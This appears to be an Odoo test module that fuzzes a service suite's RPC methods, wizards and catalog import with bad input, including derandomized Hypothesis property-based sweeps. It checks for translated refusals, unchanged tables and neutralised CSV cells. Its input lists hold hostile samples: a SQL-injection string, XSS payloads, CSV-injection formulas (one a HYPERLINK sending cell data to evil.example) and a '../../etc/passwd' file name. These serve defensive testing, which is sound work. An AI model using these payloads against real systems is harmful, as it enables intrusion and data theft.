"""Bad input on the suite's public methods, the way an RPC client sends it.

Each call goes through ``odoo.api.call_kw`` (what ``/web/dataset/call_kw`` and
XML-RPC run) as a service manager of company 1 who reads Russian. Whatever
comes in — wrong types, missing ids, another company's ids, negative and huge
quantities, reversed dates, empty, 100 kB, RTL, SQL and HTML text — the answer
is a result of the promised shape or a ``UserError`` (``ValidationError``,
``AccessError`` and ``MissingError`` are ones) in Russian, never another
exception, and a refused call leaves the business tables as they were.

The generated sweeps are derandomized: every run tries the same examples
(seeded from each test's source), so a failure in CI fails again on any
machine; a finding of a randomized run is pinned as a fixed test.
"""

import base64
import csv
import hashlib
import inspect
import io
import json
import re
from datetime import date, timedelta

import psycopg2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from odoo import Command, api, fields, models
from odoo.exceptions import UserError
from odoo.service.model import _as_validation_error
from odoo.tests import HttpCase, TransactionCase, new_test_user, tagged
from odoo.tools import SQL

from odoo.addons.service_parts.tests.common import broken_workbooks

from .world import build_world, login

# What changes if a call writes anything of substance.
TABLES = (
    "service_request",
    "service_equipment",
    "service_warranty_claim",
    "service_supplier_claim",
    "service_contract",
    "service_contract_line",
    "service_demo_booking",
    "service_qc_check",
    "service_part_requirement",
    "service_part_crossref",
    "stock_lot",
    "stock_picking",
    "stock_move",
    "repair_order",
    "sale_order",
    "sale_order_line",
    "purchase_order",
    "purchase_order_line",
    "account_move",
    "product_supplierinfo",
    "calendar_event",
    "service_maintenance_plan",
    "service_equipment_reading",
)

TEXT = [
    "",
    "   ",
    "x" * 100_000,
    "\u202eRTL-سيريال-١٢٣",
    "Котёл №5 — «ремонт»",
    "'; DROP TABLE res_partner; --",
    "%(name)s %s {0}",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\x01\x1b[31m\u200b",
    # NUL is left out: PostgreSQL refuses it in any text and psycopg2 raises
    # ValueError before the ORM can say anything; no field of Odoo accepts it.
]
# Not valid Unicode: lone UTF-16 surrogates, which JSON lets a client send
# ("\ud800") and which neither a text column nor a UTF-8 answer can hold.
INVALID_TEXT = ["AB\ud800CD", "\udfff", "SEC-A-0001\ud83d"]
# Cells a spreadsheet would run as formulas (CSV injection).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
# How a cell that would run as a formula starts (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NOT_IDS = [None, False, True, -1, 0, 2**31, 2**63, 1.5, "1", "abc", [], [1, 2], {}, {"id": 1}]
QUANTITIES = [0, -1, -1e9, 1e12, 1e308, float("nan"), float("inf"), "ten", None, [], {}]
DATES = ["", "2026-13-45", "31.12.2026", "0000-00-00", "9999-12-31", -5, [], {}, "x" * 10_000]
JUNK = TEXT + INVALID_TEXT + NOT_IDS + QUANTITIES + DATES

junk = st.sampled_from(JUNK) | st.text(max_size=200) | st.integers() | st.floats()
# 100 kB that does not compress: PostgreSQL compresses long index entries, so
# "x" * 100_000 fits an index where a real long value does not.
NOISE = "".join(hashlib.sha256(str(i).encode()).hexdigest() for i in range(1600)).upper()


class _Undo(Exception):
    pass


@tagged("post_install", "-at_install", "service_suite")
class TestBadInput(TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.world = w = build_world(cls.env)
        cls.manager = new_test_user(
            cls.env,
            login="bad_input_manager",
            email="bad.input@example.com",
            groups=",".join(
                [
                    "service_base.group_service_manager",
                    "stock.group_stock_user",
                    "account.group_account_invoice",
                    "purchase.group_purchase_user",
                    "sales_team.group_sale_salesman",
                ]
            ),
            company_id=w.company1.id,
            lang="ru_RU",
        )
        cls.other = {
            "service.equipment": w.units[2],
            "service.request": w.requests[2],
            "service.warranty.claim": w.claims[2],
            "service.contract": w.contracts[2],
            "service.team": w.teams[1],
            "service.dispatch.rule": w.dispatch_rules[1],
            "stock.lot": w.lots[2],
        }
        cls.own = {
            "service.equipment": w.units[0],
            "service.request": w.requests[0],
            "service.warranty.claim": w.claims[0],
            "service.contract": w.contracts[0],
        }
        cls.part = cls.env["product.product"].create(
            {"name": "Bad input gasket", "type": "consu", "default_code": "BI-GASKET-1"}
        )

    # the harness ------------------------------------------------------------

    def _env(self):
        return api.Environment(self.env.cr, self.manager.id, {"lang": "ru_RU"})

    def _signature(self):
        # One line per table: its row count and a checksum of every row.
        query = SQL(" UNION ALL ").join(
            SQL(
                "SELECT %s, count(*), coalesce(sum(hashtext(t::text)), 0) FROM %s t",
                table,
                SQL.identifier(table),
            )
            for table in TABLES
        )
        self.env.cr.execute(query)
        return self.env.cr.fetchall()

    def _call(self, model, method, args=(), kwargs=None, ids=None):
        """Call like an RPC client, undo it, and say what came back.

        Returns ("ok", result) or ("error", exception); fails the test on any
        other exception, on an untranslated refusal, and on a refusal that
        left something written.
        """
        env = self._env()
        args = list(args)
        if ids is not None:
            args = [ids, *args]
        before = self._signature()
        outcome = None
        try:
            with self.env.cr.savepoint():
                try:
                    # The context travels in the call, as RPC clients send it.
                    rpc_kwargs = dict(kwargs or {}, context={"lang": "ru_RU"})
                    result = api.call_kw(env[model], method, args, rpc_kwargs)
                    env.flush_all()
                    outcome = ("ok", result)
                except (UserError, psycopg2.IntegrityError) as error:
                    if isinstance(error, psycopg2.IntegrityError):
                        # The RPC layer rolls back and answers with a ValidationError
                        # (odoo.service.model.retrying); the statement wrote nothing.
                        outcome = ("error", _as_validation_error(env, error))
                        written = before
                    else:
                        outcome = ("error", error)
                        env.invalidate_all(flush=False)
                        written = self._signature()
                except Exception as error:  # the test fails on it below
                    outcome = ("crash", error)
                raise _Undo
        except _Undo:
            pass
        what = f"{model}.{method}({_short(args)}, {_short(kwargs)})"
        if outcome[0] == "crash":
            self.fail(f"{what} raised {type(outcome[1]).__name__}: {_short(outcome[1])}")
        if outcome[0] == "error":
            self._assert_translated(outcome[1], what)
            if method not in ("create", "write"):  # the ORM inserts, then checks
                self.assertEqual(
                    [row for row in written if row not in before],
                    [],
                    f"{what} refused after writing",
                )
        self.assertEqual(self._signature(), before, f"{what} left something written")
        return outcome

    def _assert_translated(self, error, what):
        message = error if isinstance(error, str) else str(error.args[0] if error.args else "")
        self.assertTrue(
            re.search("[а-яА-Я]", message),
            f"{what}: the refusal is not in the user's language: {message[:200]}",
        )

    # parts lookup -----------------------------------------------------------

    @settings(
        max_examples=30,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )
    @given(query=junk, equipment=junk, limit=junk, quantity=junk, need_date=junk)
    def test_parts_lookup_junk(self, query, equipment, limit, quantity, need_date):
        kind, result = self._call(
            "product.product",
            "service_parts_lookup",
            [query],
            {
                "equipment_id": equipment,
                "limit": limit,
                "quantity": quantity,
                "need_date": need_date,
            },
        )
        if kind == "ok":
            self.assertIsInstance(result, list)

    def test_parts_lookup_fixed_cases(self):
        for query in TEXT:
            kind, result = self._call("product.product", "service_parts_lookup", [query])
            # Only a query longer than the documented 10,000 characters is refused.
            self.assertEqual(kind, "ok" if len(query) <= 10_000 else "error", query[:30])
            if kind == "ok":
                self.assertIsInstance(result, list)
        for query in INVALID_TEXT:
            kind, __ = self._call("product.product", "service_parts_lookup", [query])
            self.assertEqual(kind, "error", query)
            kind, __ = self._call("product.product", "name_search", [query])
            self.assertEqual(kind, "error", query)
        # another company's unit is not a unit of the caller
        other_unit = self.other["service.equipment"].id
        for kwargs in (
            {"equipment_id": other_unit},
            {"equipment_id": 10**9},
            {"limit": -5},
            {"limit": 10**9},
            {"quantity": -3},
            {"need_date": "2001-01-01"},
        ):
            self._call("product.product", "service_parts_lookup", ["BI-GASKET"], kwargs)

    def test_parts_add_to_documents_junk(self):
        repair_other = (
            self.env["repair.order"]
            .sudo()
            .search([("company_id", "!=", self.world.company1.id)], limit=1)
        )
        for value in [*NOT_IDS, *QUANTITIES, 10**9, repair_other.id or 10**9]:
            self._call("product.product", "service_parts_add_to_repair", [value], ids=self.part.ids)
            self._call(
                "product.product",
                "service_parts_add_to_repair",
                [10**9],
                {"quantity": value},
                ids=self.part.ids,
            )
            self._call(
                "product.product",
                "service_parts_add_to_quotation",
                [],
                {"partner_id": value, "order_id": value, "quantity": value},
                ids=self.part.ids,
            )
            self._call(
                "product.product",
                "service_parts_add_to_rfq",
                [],
                {"quantity": value, "need_date": value},
                ids=self.part.ids,
            )

    # warranty status --------------------------------------------------------

    @settings(
        max_examples=30,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )
    @given(serial=junk, date=junk)
    def test_warranty_status_junk(self, serial, date):
        kind, result = self._call("stock.lot", "service_warranty_status", [serial], {"date": date})
        if kind == "ok":
            self.assertIsInstance(result, dict)

    def test_warranty_status_other_company_serial(self):
        serial = self.other["stock.lot"].name
        kind, result = self._call("stock.lot", "service_warranty_status", [serial])
        if kind == "ok":
            self.assertFalse(result.get("equipment_id"), "another company's unit leaked")
            self.assertFalse(result.get("partner"), "another company's customer leaked")

    # every action on missing, foreign and no records ------------------------

    def _suite_actions(self):
        """(model, method) of every public action_* our addons define that an
        RPC client can call with ids alone."""
        found = []
        for name in sorted(self.env.registry):
            Model = self.env.registry[name]
            if Model._abstract or Model._transient:
                continue
            for attr in sorted(dir(Model)):
                if not attr.startswith("action_"):
                    continue
                func = getattr(Model, attr, None)
                if not callable(func) or getattr(func, "_api", None):
                    continue
                module = getattr(func, "__module__", "") or ""
                if not module.startswith(("odoo.addons.service_",)):
                    continue
                params = list(inspect.signature(func).parameters.values())[1:]
                if any(p.default is inspect.Parameter.empty for p in params):
                    continue
                found.append((name, attr))
        return found

    def test_actions_on_missing_foreign_and_no_records(self):
        actions = self._suite_actions()
        self.assertGreater(len(actions), 40)
        for model, method in actions:
            with self.subTest(model=model, method=method):
                missing = self.env[model].sudo().search([], order="id desc", limit=1).id + 10**6
                # Nothing may crash or be written (the harness checks); opening a
                # missing record may be refused or answer with an action that
                # then shows nothing.
                kind, result = self._call(model, method, ids=[missing])
                if kind == "ok":
                    self.assertIsInstance(result, (dict, bool, list, models.BaseModel, type(None)))
                if model in self.other:
                    # Another company's record is refused; an action that only
                    # opens a filtered list is harmless: the list applies the
                    # record rules.
                    kind, result = self._call(model, method, ids=self.other[model].ids)
                    self.assertTrue(
                        kind == "error"
                        or isinstance(result, dict)
                        and any(verb in method for verb in ("view", "open", "print")),
                        f"{model}.{method} on another company's record answered {_short(result)}",
                    )
                try:
                    self._call(model, method, ids=[])
                except AssertionError as error:
                    # ensure_one()'s ValueError on no record at all is the ORM's
                    # contract for methods that act on one record.
                    if "Expected singleton" not in str(error):
                        raise

    # actions with arguments -------------------------------------------------

    def test_actions_with_junk_arguments(self):
        request = self.own["service.request"]
        other = self.other
        for value in [
            *TEXT,
            *INVALID_TEXT,
            *NOT_IDS,
            other["service.equipment"].id,
            other["service.request"].id,
        ]:
            self._call(
                "service.request",
                "action_send_to_service_center",
                [value],
                {"tracking_ref": value, "date_expected_return": value},
                ids=request.ids,
            )
            self._call(
                "service.request",
                "action_receive_from_service_center",
                [],
                {"serial": value},
                ids=request.ids,
            )
            self._call("service.request", "action_lend_loaner", [value], ids=request.ids)
            self._call("service.qc.check", "action_fail", [], {"reason": value}, ids=[10**6])
        for date_from, date_to in (
            ("2026-12-31", "2026-01-01"),
            ("garbage", "2026-01-01"),
            ([], {}),
            (-1, 10**12),
            ("9999-12-31", "9999-12-31"),
            ("2026-01-01\ud800", "\udfff"),
        ):
            self._call(
                "service.kpi.dashboard",
                "get_kpis",
                [],
                {"date_from": date_from, "date_to": date_to},
            )

    # wizards ----------------------------------------------------------------

    def _undone(self, what, operation):
        """Run ``operation(env)`` and undo it: a refusal must be a translated
        UserError, anything else a failure, and nothing may stay written."""
        env = self._env()
        before = self._signature()
        try:
            with self.env.cr.savepoint():
                try:
                    operation(env)
                    env.flush_all()
                except UserError as error:
                    self._assert_translated(error, what)
                except Exception as error:  # reported as a failure
                    self.fail(f"{what} raised {error!r}"[:400])
                raise _Undo
        except _Undo:
            pass
        self.assertEqual(self._signature(), before)

    def _wizard(self, model, method, values):
        """Create the wizard and run it in one call chain, as the client does."""
        self._undone(
            f"{model}.{method}({_short(values)})",
            lambda env: getattr(env[model].create(values), method)(),
        )

    def test_wizards_junk(self):
        request = self.own["service.request"]
        other = self.other
        for value in [*TEXT, -1, 10**6, other["service.equipment"].id]:
            self._wizard(
                "service.log.call",
                "action_log",
                {"partner_id": self.world.customer_a.id, "subject": value, "description": value},
            )
            self._wizard(
                "service.center.transfer",
                "action_confirm",
                {"request_id": request.id, "direction": "send", "tracking_ref": value},
            )
        for history, horizon in ((-1, 12), (0, 0), (10**6, 10**6), (104, -5)):
            self._wizard(
                "service.forecast.wizard",
                "action_compute",
                {"history_weeks": history, "horizon": horizon},
            )
        for days in (-1, 0, 10**6):
            self._wizard(
                "service.part.reorder.wizard",
                "action_compute",
                {"history_days": days, "safety_days": days, "cover_days": days},
            )

    # catalog import ---------------------------------------------------------

    @settings(
        max_examples=12,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )
    @given(
        content=st.binary(max_size=300)
        | st.lists(
            st.lists(st.sampled_from(TEXT[:8] + FORMULAS) | st.text(max_size=30), max_size=6),
            max_size=8,
        ).map(
            lambda rows: "\n".join(
                ",".join(row) for row in [["Code", "Name", "Price"], *rows]
            ).encode()
        ),
        file_name=st.sampled_from(["catalog.csv", "catalog.xlsx", "", "../../etc/passwd"]),
        delimiter=st.sampled_from([",", ";", "\t", "x"]),
    )
    def test_catalog_import_junk(self, content, file_name, delimiter):
        def run_import(env):
            imp = env["service.part.import"].create(
                {
                    "partner_id": self.world.customer_b.id,
                    "file": base64.b64encode(content),
                    "file_name": file_name,
                    "delimiter": delimiter,
                    "col_code": "Code",
                    "col_name": "Name",
                    "col_price": "Price",
                }
            )
            imp.action_start()
            state = imp._run_import_job()
            self.assertIn(state, ("done", "failed"))
            if state == "failed":
                self.assertTrue(re.search("[а-яА-Я]", imp.error or ""), imp.error)
            elif imp.report_file:
                self._assert_no_formulas(base64.b64decode(imp.report_file))

        self._undone("service.part.import", run_import)

    def _assert_no_formulas(self, data):
        """No cell of the CSV ``data`` would run as a spreadsheet formula."""
        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
        live = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        self.assertEqual(live, [], "CSV cells a spreadsheet would run as formulas")

    def test_catalog_import_broken_files(self):
        """Damaged workbooks, wrong encodings and files that are no catalog:
        a Russian sentence on upload, on start or on the failed import, never
        a traceback, and nothing imported."""
        header = ["Code", "Name", "Price"]
        files = {what: data for what, (data, __) in broken_workbooks(header).items()}
        files["CSV in Windows-1251 read as UTF-8"] = "Код,Имя,Цена\n1,2,3\n".encode("cp1251")
        files["UTF-16 CSV"] = "Code,Name,Price\nA,B,1\n".encode("utf-16")
        files["an encoded surrogate"] = b"Code,Name,Price\nA\xed\xa0\x80,B,1\n"
        files["a PNG named .xlsx"] = base64.b64decode(
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
        )
        for what, data in files.items():
            file_name = "catalog.csv" if "CSV" in what or "surrogate" in what else "catalog.xlsx"

            def run_import(env, data=data, file_name=file_name, what=what):
                Import = env["service.part.import"]
                values = {
                    "partner_id": self.world.customer_b.id,
                    "file": base64.b64encode(data),
                    "file_name": file_name,
                    "col_code": "Code",
                    "col_name": "Name",
                    "col_price": "Price",
                }
                warning = Import.new(values)._onchange_file()
                if warning:
                    self._assert_translated(warning["warning"]["message"], what)
                imp = Import.create(values)
                try:
                    with self.env.cr.savepoint():
                        imp.action_start()
                except UserError as error:
                    self._assert_translated(error, what)
                    self.assertTrue(warning, f"{what}: refused on start, not on upload")
                    return
                self.assertEqual(imp._run_import_job(), "failed", what)
                self._assert_translated(imp.error, what)

            with self.subTest(what=what):
                self._undone(f"service.part.import ({what})", run_import)
        # A file that is no base64 at all, on create, write and upload.
        values = {"partner_id": self.world.customer_b.id, "file_name": "c.csv"}
        for value in ("abc", "a", "Zm9vY"):
            kind, __ = self._call("service.part.import", "create", [dict(values, file=value)])
            self.assertEqual(kind, "error", value)
            self._undone(
                "service.part.import upload",
                lambda env, value=value: (
                    env["service.part.import"].new(dict(values, file=value))._onchange_file()
                ),
            )

    def test_catalog_import_formula_cells(self):
        """The rejected-lines CSV neutralises every cell a spreadsheet would
        run; the names of accepted lines are stored as the supplier wrote them."""
        lines = [
            [formula, formula, "bad price" if i % 2 else formula]
            for i, formula in enumerate(FORMULAS)
        ]
        lines.append(["OK-1", "@SUM(1+1)", "5"])
        out = io.StringIO()
        csv.writer(out).writerows([["Code", "Name", "Price"], *lines])
        env = self._env()
        imp = env["service.part.import"].create(
            {
                "partner_id": self.world.customer_b.id,
                "file": base64.b64encode(out.getvalue().encode()),
                "file_name": "formulas.csv",
                "col_code": "Code",
                "col_name": "Name",
                "col_price": "Price",
            }
        )
        imp.action_start()
        self.assertEqual(imp._run_import_job(), "done", imp.error)
        self.assertEqual((imp.rejected_count, imp.part_created_count), (len(FORMULAS), 1))
        report = base64.b64decode(imp.report_file)
        self._assert_no_formulas(report)
        cells = {
            cell for row in csv.reader(io.StringIO(report.decode(), newline="")) for cell in row
        }
        for formula in FORMULAS:
            self.assertIn("'" + formula, cells)
        self.assertTrue(env["product.product"].search([("name", "=", "@SUM(1+1)")]))

    def test_rpc_create_and_write_junk(self):
        """Direct create/write of our documents with junk field values.

        Left out: a wrong selection key, an impossible date string, NUL and a
        monetary amount near 1e308, which the ORM itself turns into ValueError,
        psycopg2 DataError or OverflowError on every model of Odoo before any
        code of ours runs."""
        request = self.own["service.request"]
        for values in (
            {"subject": "x" * 100_000, "partner_id": self.world.customer_a.id},
            {"subject": "ok", "partner_id": -1},
            {"subject": "ok", "equipment_id": self.other["service.equipment"].id},
        ):
            self._call("service.request", "create", [values])
            self._call("service.request", "write", [values], ids=request.ids)
        contract = self.own["service.contract"]
        for values in (
            {"date_start": "2027-01-01", "date_end": "2026-01-01"},
            {"partner_id": self.world.customer_c.id},
        ):
            self._call("service.contract", "write", [values], ids=contract.ids)
        self._call(
            "service.warranty.claim",
            "create",
            [{"partner_id": self.world.customer_a.id, "lot_id": self.other["stock.lot"].id}],
        )
        self._call(
            "service.contract.line",
            "create",
            [{"contract_id": contract.id, "name": "x", "quantity": -5, "price_unit": 10}],
        )
        for price in (1e15, -1e15, 1e200):
            kind, __ = self._call(
                "service.contract.line",
                "create",
                [{"contract_id": contract.id, "name": "x", "quantity": 1e6, "price_unit": price}],
            )
            self.assertEqual(kind, "error", price)

    # actions on records in each state ---------------------------------------

    def _samples(self):
        """Records of every model with public actions, in several states."""
        w, env = self.world, self.env
        warehouse = env["stock.warehouse"].search([("company_id", "=", w.company1.id)], limit=1)
        centre = env["res.partner"].create(
            {"name": "Sweep Service Centre", "is_service_center": True, "is_company": True}
        )
        vendor = env["res.partner"].create({"name": "Sweep Parts Vendor", "is_company": True})
        lots = env["stock.lot"].create(
            [
                {"name": f"SWEEP-{i}", "product_id": w.model.id, "company_id": w.company1.id}
                for i in range(3)
            ]
        )
        loaner, demo_unit, __ = env["service.equipment"].create(
            [
                {"product_id": w.model.id, "lot_id": lots[0].id, "is_loaner": True},
                {"product_id": w.model.id, "lot_id": lots[1].id, "is_demo": True},
                {"product_id": w.model.id, "lot_id": lots[2].id, "partner_id": w.contact_a.id},
            ]
        )
        for lot in lots[:2]:
            env["stock.quant"]._update_available_quantity(
                w.model, warehouse.lot_stock_id, 1, lot_id=lot
            )
        # B's unit is at the service centre, so that it can come back.
        w.requests[1].action_send_to_service_center(centre)
        repair = env["repair.order"].create(
            {
                "product_id": w.model.id,
                "lot_id": w.lots[0].id,
                "partner_id": w.contact_a.id,
                "request_id": w.requests[0].id,
            }
        )
        done_repair = repair.copy({"lot_id": lots[2].id, "request_id": False})
        done_repair.state = "done"
        template = env["service.qc.template"].create(
            {"name": "Sweep checklist", "item_ids": [Command.create({"name": "Leak test"})]}
        )
        qc_check = env["service.qc.check"].create(
            {"repair_id": repair.id, "template_id": template.id}
        )
        quotations = env["sale.order"].create([{"partner_id": w.customer_a.id}] * 2)
        quotations[1].action_cancel()
        lead = env["crm.lead"].create(
            {"name": "Sweep deal", "partner_id": w.customer_a.id, "type": "opportunity"}
        )
        now = fields.Datetime.now()
        bookings = env["service.demo.booking"].create(
            [
                {
                    "equipment_id": demo_unit.id,
                    "partner_id": w.customer_a.id,
                    "lead_id": lead.id,
                    "date_start": now + timedelta(days=day),
                    "date_stop": now + timedelta(days=day, hours=2),
                }
                for day in (1, 2, 3)
            ]
        )
        bookings[2].action_confirm()
        contracts = env["service.contract"].create(
            [
                {"partner_id": w.customer_a.id, "title": "Sweep draft, no lines"},
                {"partner_id": w.customer_a.id, "title": "Sweep to cancel"},
            ]
        )
        contracts[1].action_cancel()
        claims = env["service.warranty.claim"].create(
            [
                {
                    "partner_id": w.contact_a.id,
                    "lot_id": w.lots[0].id,
                    "defect_description": f"Sweep claim {decision}",
                    "decision": decision,
                }
                for decision in ("repair", "refund", "replace", False)
            ]
        )
        claims.action_start_inspection()
        supplier_claims = env["service.supplier.claim"].create(
            [
                {"claim_id": w.claims[0].id, "supplier_id": vendor.id, "lot_id": w.lots[0].id}
                for __ in range(3)
            ]
        )
        supplier_claims[2].action_mark_replaced()
        part_import = env["service.part.import"].create(
            {
                "partner_id": vendor.id,
                "file": base64.b64encode(b"code,name,price\nSW-1,Sweep part,10\n"),
                "file_name": "sweep.csv",
                "col_code": "code",
                "col_name": "name",
                "col_price": "price",
            }
        )
        request_a, request_b = w.requests[:2]
        return {
            "service.request": w.requests[:2],
            "service.equipment": w.units[:2] | loaner | demo_unit,
            "service.warranty.claim": w.claims[:2] | claims,
            "service.contract": w.contracts[:2] | contracts,
            "service.supplier.claim": supplier_claims,
            "service.team": w.teams[:1],
            "service.dispatch.rule": w.dispatch_rules[:1],
            "service.qc.check": qc_check,
            "service.demo.booking": bookings,
            "service.part.import": part_import,
            "stock.lot": w.lots[:2] | lots,
            "repair.order": repair | done_repair,
            "sale.order": quotations,
            "crm.lead": lead,
            "res.partner": w.customer_a,
            "product.template": w.model.product_tmpl_id,
            "account.move": env["account.move"].create(
                {"move_type": "out_invoice", "partner_id": w.customer_a.id}
            ),
            # Wizards, as their forms leave them.
            "service.center.transfer": env["service.center.transfer"].create(
                [
                    {"request_id": request_a.id, "direction": "send"},
                    {
                        "request_id": request_a.id,
                        "direction": "send",
                        "partner_id": centre.id,
                        "date_expected_return": date(2000, 1, 1),
                    },
                    {"request_id": request_b.id, "direction": "receive", "serial": "NOPE"},
                ]
            ),
            "service.loaner.lend": env["service.loaner.lend"].create(
                [
                    {"request_id": request_a.id, "loaner_id": loaner.id},
                    {"request_id": request_a.id, "loaner_id": demo_unit.id},
                ]
            ),
            "service.log.call": env["service.log.call"].create(
                [
                    {"partner_id": w.contact_a.id, "subject": "Sweep call", "close_now": True},
                    {
                        "partner_id": w.contact_a.id,
                        "subject": "B's unit",
                        "equipment_id": w.units[1].id,
                        "close_now": False,
                    },
                ]
            ),
            "service.qc.fail.wizard": env["service.qc.fail.wizard"].create(
                {"check_id": qc_check.id, "reason": " "}
            ),
            "service.forecast.wizard": env["service.forecast.wizard"].create({}),
            "service.part.reorder.wizard": env["service.part.reorder.wizard"].create({}),
        }

    def test_actions_on_records_in_each_state(self):
        """Every public method without arguments, wizards included, on each
        sample record and on several records of one state together: a refusal
        of a later record must not leave the earlier ones changed, and a
        missing relation is a sentence, not ensure_one's ValueError."""
        samples = self._samples()
        # Settle what making the samples left pending (their tracking, posted at
        # the first savepoint: a request moved to the service-centre stage
        # notifies its customer, which gives it an access token), so that it
        # is not taken for a write of the first call.
        self.env.cr.flush()
        seen = 0
        for name in sorted(self.env.registry):
            Model = self.env.registry[name]
            if Model._abstract or name not in samples:
                continue
            records = samples[name]
            variants = [record.ids for record in records]
            if len(records) > 1:
                variants.append(records.ids)
            if "state" in records._fields:
                for state in set(records.mapped("state")):
                    same = records.filtered(lambda r, s=state: r.state == s)
                    if 1 < len(same) < len(records):
                        variants.append(same.ids)
            for attr in sorted(dir(Model)):
                func = getattr(Model, attr, None)
                if (
                    attr.startswith("_")
                    or not callable(func)
                    or getattr(func, "_api", None)
                    or not (getattr(func, "__module__", "") or "").startswith(
                        "odoo.addons.service_"
                    )
                    or attr in ("create", "write", "unlink", "copy", "read", "search", "init")
                ):
                    continue
                params = list(inspect.signature(func).parameters.values())[1:]
                if any(p.default is inspect.Parameter.empty for p in params):
                    continue
                for ids in variants:
                    seen += 1
                    with self.subTest(model=name, method=attr, ids=ids):
                        try:
                            self._call(name, attr, ids=ids)
                        except AssertionError as error:
                            if len(ids) == 1 or "Expected singleton" not in str(error):
                                raise
        self.assertGreater(seen, 250)

    # arguments of the mail gateway and of ratings ---------------------------

    def test_rating_and_mail_gateway_junk(self):
        request = self.own["service.request"]
        for rate in [*QUANTITIES, *TEXT[:4], *INVALID_TEXT, True, 6, -0.5]:
            kind, __ = self._call(
                "service.request", "rating_apply", [rate], {"feedback": "x"}, ids=request.ids
            )
            self.assertEqual(kind, "error", rate)
        # A valid rate without a rating to apply it to: refused in words.
        kind, __ = self._call("service.request", "rating_apply", [4], ids=request.ids)
        self.assertEqual(kind, "error")
        for feedback in [*NOT_IDS[2:], *INVALID_TEXT]:
            self._call(
                "service.request", "rating_apply", [4], {"feedback": feedback}, ids=request.ids
            )
        for msg_dict in [*NOT_IDS, *TEXT[:3], *INVALID_TEXT]:
            self._call("service.request", "message_new", [msg_dict])
        for part in [*NOT_IDS, {"a": 1}, *INVALID_TEXT]:
            self._call(
                "service.request",
                "message_new",
                [{"subject": part, "body": part, "email_from": part}],
            )
        kind, result = self._call(
            "service.request",
            "message_new",
            [{"subject": "Boiler leaks", "body": "<p>S/N SEC-A-0001</p>", "email_from": "a@b.c"}],
        )
        self.assertEqual(kind, "ok")

    # NUL characters --------------------------------------------------------

    def test_nul_characters_in_arguments(self):
        """PostgreSQL refuses NUL in text; an argument carrying one is an
        answer or a refusal in words, not psycopg2's ValueError."""
        request, nul = self.own["service.request"], "SEC\x00-A"
        kind, result = self._call("stock.lot", "service_warranty_status", [nul], {"date": ""})
        self.assertEqual((kind, result["source"]), ("ok", "unknown"))
        kind, result = self._call("product.product", "service_parts_lookup", ["BI-\x00GASKET"])
        __, without = self._call("product.product", "service_parts_lookup", ["BI-GASKET"])
        self.assertEqual((kind, result), ("ok", without))
        self._call(
            "service.request",
            "action_receive_from_service_center",
            [],
            {"serial": nul},
            ids=request.ids,
        )
        self._call(
            "service.request",
            "action_send_to_service_center",
            [False],
            {"tracking_ref": nul},
            ids=request.ids,
        )
        self._call("service.request", "rating_apply", [4], {"feedback": nul}, ids=request.ids)

    # invalid Unicode -------------------------------------------------------

    def test_invalid_unicode_in_arguments(self):
        """A lone surrogate in a text argument is refused in words (before,
        psycopg2's UnicodeEncodeError), and the refusal does not echo it."""
        request = self.own["service.request"].ids
        email = {"subject": "Boiler", "body": "<p>Leaks</p>", "email_from": "a@example.com"}
        for text in INVALID_TEXT:
            calls = [
                ("product.product", "service_parts_lookup", [text], {}, None),
                ("product.product", "name_search", [text], {}, None),
                ("stock.lot", "service_warranty_status", [text], {}, None),
                ("service.request", "action_receive_from_service_center", [], {"serial": text}),
                (
                    "service.request",
                    "action_send_to_service_center",
                    [False],
                    {"tracking_ref": text},
                ),
                ("service.request", "rating_apply", [4], {"feedback": text}),
                ("service.kpi.dashboard", "get_kpis", [], {"date_from": text}, None),
                *(
                    ("service.request", "message_new", [dict(email, **{part: text})], {}, None)
                    for part in email
                ),
            ]
            for model, method, args, kwargs, *ids in calls:
                with self.subTest(method=method, args=args, kwargs=kwargs):
                    kind, error = self._call(
                        model, method, args, kwargs, ids=ids[0] if ids else request
                    )
                    self.assertEqual(kind, "error")
                    self.assertNotIn(text, str(error.args[0]))

    # maintenance plans and meter readings -----------------------------------

    def test_maintenance_bad_input(self):
        """Issue 16's list: negative or zero intervals, a meter reading lower
        than the last, a plan on a contract line without a unit, a horizon of
        ten years; and an absurd reading (1e12 for 1200). Each is refused in
        Russian over call_kw, and nothing is written (a batch with one bad
        plan creates none)."""
        unit = self.own["service.equipment"]
        contract = self.own["service.contract"]
        service = self.env["product.product"].create(
            {"name": "Bad input hotline", "type": "service"}
        )
        hotline = self.env["service.contract.line"].create(
            {"contract_id": contract.id, "product_id": service.id, "price_unit": 1.0}
        )
        plan = self.env["service.maintenance.plan"].create(
            {"name": "Bad input plan", "equipment_id": unit.id, "interval": 1}
        )
        self.env["service.equipment.reading"].create(
            {
                "equipment_id": unit.id,
                "value": 1200.0,
                "date": fields.Datetime.now() - timedelta(days=10),
            }
        )
        self.env.flush_all()
        good = {"name": "Bad input", "equipment_id": unit.id}
        for vals in (
            {"interval": 0},
            {"interval": -1},
            {"interval_type": "week", "interval": -2},
            {"interval_type": "meter", "meter_interval": 0},
            {"interval_type": "meter", "meter_interval": -500},
            {"interval_type": "meter", "meter_interval": 500, "meter_start": -1},
            {"horizon_days": 3650},
            {"horizon_days": 0},
            {"duration_hours": 0},
            {"contract_id": contract.id, "contract_line_id": hotline.id},
        ):
            with self.subTest(vals=vals):
                kind, __ = self._call("service.maintenance.plan", "create", [{**good, **vals}])
                self.assertEqual(kind, "error", vals)
                kind, __ = self._call("service.maintenance.plan", "write", [vals], ids=plan.ids)
                self.assertEqual(kind, "error", vals)
